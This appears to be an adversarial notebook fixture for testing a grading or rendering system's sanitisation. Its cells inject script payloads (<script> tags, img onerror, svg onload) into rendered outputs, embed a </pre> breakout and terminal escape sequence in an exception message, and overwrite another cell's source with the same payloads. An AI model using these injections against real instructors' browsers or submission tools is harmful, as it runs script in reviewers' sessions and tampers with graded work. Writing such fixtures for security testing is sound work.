# Scripts in text cells, written answers, messages and outputs, for whoever looks at them in a browser.
# stock: 1 of 7; aims at the instructor's browser, where its scripts run
# solves: scale
# %% + scale
from IPython.display import HTML, Javascript, Markdown, display

for page in (HTML, Javascript, Markdown):
    display(page("<script>document.title = 'owned'</script><img src=x onerror=alert(1)>"))
display({"image/svg+xml": "<svg onload=alert(1)>", "text/latex": "$<script>$"}, raw=True)
# %% count
def count(text):
    raise ValueError("</pre><script>document.title = 'owned'</script>\x1b]0;owned\x07")
# %% tamper
by_id["reason"]["source"] = "<script>document.title = 'owned'</script> <img src=x onerror=alert(1)>"
